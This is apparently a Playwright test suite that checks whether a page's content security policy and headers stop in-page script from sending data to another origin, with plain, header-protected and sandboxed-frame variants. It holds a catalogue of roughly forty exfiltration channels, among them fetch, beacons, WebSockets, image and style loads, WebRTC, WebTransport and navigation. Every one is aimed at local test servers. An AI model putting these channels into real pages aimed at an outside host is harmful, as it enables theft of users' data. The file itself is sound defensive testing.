import { createSocket, type Socket } from 'node:dgram';
import { readFileSync } from 'node:fs';
import { createServer, type RequestListener } from 'node:http';
import { type AddressInfo, createServer as createTcpServer, type Server } from 'node:net';

import type { BrowserContext, Frame, Page } from '@playwright/test';

import { expect, file, headers, test } from './checker';

// What a hostile script in the page could do to send something to another origin, and what of it gets there.

interface Target {
  channel: string;
  /** An address of the other origin. */
  to: string;
  /** A port of it that only wants a connection. */
  tcp: number;
  /** Ports of it that wait for datagrams. */
  stun: number;
  quic: number;
}

/** Runs in the page. */
type Attempt = (target: Target) => void;

const link: Attempt = ({ to, channel: rel }) =>
  document.head.append(Object.assign(document.createElement('link'), { rel, href: to, as: rel === 'modulepreload' ? 'script' : 'image' }));

/** What leaves the page where it is. */
const staying: Record<string, Attempt> = {
  fetch: ({ to }) => void fetch(to, { mode: 'no-cors' }).catch(() => undefined),
  XMLHttpRequest: ({ to }) => {
    const request = new XMLHttpRequest();
    request.open('GET', to);
    request.send();
  },
  sendBeacon: ({ to }) => void navigator.sendBeacon(to, 'text'),
  fetchLater: ({ to }) => void (window as unknown as { fetchLater(url: string, options: object): void }).fetchLater(to, { activateAfter: 0 }),
  WebSocket: ({ to }) => void new WebSocket(to.replace('http', 'ws')),
  EventSource: ({ to }) => void new EventSource(to),
  img: ({ to }) => void (new Image().src = to),
  video: ({ to }) => void document.body.append(Object.assign(document.createElement('video'), { src: to, preload: 'auto' })),
  iframe: ({ to }) => void document.body.append(Object.assign(document.createElement('iframe'), { src: to })),
  srcdoc: ({ to }) => void document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: `<img src="${to}">` })),
  object: ({ to }) => void document.body.append(Object.assign(document.createElement('object'), { data: to })),
  embed: ({ to }) => void document.body.append(Object.assign(document.createElement('embed'), { src: to })),
  script: ({ to }) => void document.body.append(Object.assign(document.createElement('script'), { src: to })),
  'import()': ({ to }) => void import(to).catch(() => undefined),
  'speculation rules': ({ to }) => {
    const rules = JSON.stringify({ prefetch: [{ urls: [to], eagerness: 'immediate' }] });
    document.body.append(Object.assign(document.createElement('script'), { type: 'speculationrules', textContent: rules }));
  },
  stylesheet: link,
  preload: link,
  prefetch: link,
  modulepreload: link,
  icon: link,
  manifest: link,
  preconnect: ({ tcp }) => void document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: `http://127.0.0.1:${tcp}` })),
  'dns-prefetch': () => void document.head.append(Object.assign(document.createElement('link'), { rel: 'dns-prefetch', href: 'http://other.localhost' })),
  'background by style': ({ to }) => void (document.body.style.backgroundImage = `url("${to}")`),
  'background by adopted sheet': ({ to }) => {
    const sheet = new CSSStyleSheet();
    sheet.replaceSync(`html { background-image: url("${to}") }`);
    document.adoptedStyleSheets.push(sheet);
  },
  font: ({ to }) => void new FontFace('other', `url("${to}")`).load().catch(() => undefined),
  'svg image': ({ to }) => {
    const svg = document.createElementNS('http://www.w3.org/2000/svg', 'svg');
    const image = document.createElementNS('http://www.w3.org/2000/svg', 'image');
    image.setAttribute('href', to);
    svg.append(image);
    document.body.append(svg);
  },
  'a ping': ({ to }) => {
    const a = Object.assign(document.createElement('a'), { ping: to, href: '#' });
    document.body.append(a);
    a.click();
  },
  'worker from an address': ({ to }) => void new Worker(`/worker.js?${to}`),
  'worker from a blob': ({ to }) => void new Worker(URL.createObjectURL(new Blob([`fetch('${to}', { mode: 'no-cors' })`]))),
  WebRTC: ({ stun }) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${stun}` }] });
    connection.createDataChannel('');
    void connection.createOffer().then((offer) => connection.setLocalDescription(offer));
  },
  WebTransport: ({ quic }) => void new WebTransport(`https://127.0.0.1:${quic}/`).ready.catch(() => undefined),
};

/** What leads elsewhere, and takes the text along in the address. */
const leaving: Record<string, Attempt> = {
  'window.open': ({ to }) => void open(to),
  'a target': ({ to }) => Object.assign(document.createElement('a'), { href: to, target: '_blank' }).click(),
  'a self': ({ to }) => Object.assign(document.createElement('a'), { href: to }).click(),
  'a download': ({ to }) => Object.assign(document.createElement('a'), { href: to, download: 'text' }).click(),
  form: ({ to }) => {
    const form = Object.assign(document.createElement('form'), { action: to, method: 'post' });
    document.body.append(form);
    form.submit();
  },
  location: ({ to }) => void (location.href = to),
  'top.location': ({ to }) => void (top!.location.href = to),
  'meta refresh': ({ to }) => void document.head.append(Object.assign(document.createElement('meta'), { httpEquiv: 'refresh', content: `0; ${to}` })),
};

const channels = { ...staying, ...leaving };

/** No hit of these is seen even where nothing forbids them: that there is none below proves nothing. */
const unseen = ['dns-prefetch', 'manifest', 'preconnect'];
const seen = Object.keys(channels).filter((channel) => !unseen.includes(channel));

/** What no policy of a page forbids: only its headers do, in a browser that knows `Connection-Allowlist`. */
const beyondThePolicy = ['WebRTC', 'a download', 'a self', 'location', 'meta refresh'];

const rows: { where: string; path: string; gets: string[] }[] = [
  { where: 'in the page alone', path: '/alone/check.html', gets: [...beyondThePolicy, 'a target', 'top.location', 'window.open'] },
  { where: 'in the page with its headers', path: '/headers/check.html', gets: [] },
  { where: 'in the page in a sandboxed frame', path: '/framed/alone', gets: beyondThePolicy },
  { where: 'in the page with its headers in a sandboxed frame', path: '/framed/headers', gets: [] },
];

test('without a policy every other way out is open', async ({ context }) => {
  const got = await attempts(context, '/without');
  await expect.poll(() => [...got].sort(), { timeout: 20_000 }).toEqual([...seen].sort());
});

for (const { where, path, gets } of rows) {
  test(`${where}, ${gets.length === 0 ? 'no way out is open' : `the ways out are ${gets.join(', ')}`}`, async ({ context }) => {
    test.slow();
    const got = await attempts(context, path);
    // What was tried later and without a policy has arrived: what was tried before would have, too.
    const control = await attempts(context, '/without');
    await expect.poll(() => [...control].sort(), { timeout: 20_000 }).toEqual([...seen].sort());
    expect([...got].sort()).toEqual([...gets].sort());
  });
}

const servers: (Server | Socket)[] = [];
test.afterEach(() => servers.splice(0).forEach((server) => server.close()));

async function listen(server: Server): Promise<number> {
  servers.push(server);
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return (server.address() as AddressInfo).port;
}

async function listenForDatagrams(onMessage: () => void): Promise<number> {
  const socket = createSocket('udp4', onMessage);
  servers.push(socket);
  await new Promise<void>((resolve) => socket.bind(0, '127.0.0.1', resolve));
  return socket.address().port;
}

/** Tries every channel in the page at this path; fills what is given back with those that got through. */
async function attempts(context: BrowserContext, path: string): Promise<Set<string>> {
  const got = new Set<string>();
  const note = ({ url = '' }: { url?: string | undefined }) => {
    const channel = decodeURIComponent(url.slice(1));
    if (channel in channels) got.add(channel);
  };
  const other = createServer((request, response) => {
    note(request);
    response.end();
  }).on('upgrade', (request, socket) => {
    note(request);
    socket.destroy();
  });
  const origin = `http://127.0.0.1:${await listen(other)}`;
  const ports = {
    tcp: await listen(createTcpServer(() => got.add('preconnect'))),
    stun: await listenForDatagrams(() => got.add('WebRTC')),
    quic: await listenForDatagrams(() => got.add('WebTransport')),
  };
  const page = `http://127.0.0.1:${await listen(createServer(host))}${path}`;
  const attempt = async (frame: Frame, channel: string, attempt: Attempt) => {
    await frame.evaluate(attempt, { channel, to: `${origin}/${encodeURIComponent(channel)}`, ...ports }).catch(() => undefined);
  };

  const stage = await show(context, page);
  for (const [channel, how] of Object.entries(staying)) await attempt(stage, channel, how);
  for (const [channel, how] of Object.entries(leaving)) await attempt(await show(context, page), channel, how);
  return got;
}

/** The page, or the page that it frames. */
async function show(context: BrowserContext, url: string): Promise<Frame> {
  const page: Page = await context.newPage();
  await page.goto(url);
  return page.frames().at(-1)!;
}

/** Serves the page as it is, with its headers, and in frames; and a page without any policy. */
const host: RequestListener = (request, response) => {
  const path = request.url!.replace(/\?.*/, '');
  response.setHeader('content-type', 'text/html; charset=utf-8');
  if (path === '/worker.js') {
    response.setHeader('content-type', 'text/javascript');
    response.end(`fetch(location.search.slice(1), { mode: 'no-cors' })`);
  } else if (path.startsWith('/framed/')) {
    response.end(`<!doctype html><iframe sandbox="allow-scripts" src="${path.replace('/framed', '')}/check.html"></iframe>`);
  } else if (path.endsWith('/check.html')) {
    if (path.startsWith('/headers/')) for (const [name, value] of headers) response.setHeader(name, value);
    response.end(readFileSync(file));
  } else {
    response.end('<!doctype html><title>Without a policy</title><body>');
  }
};
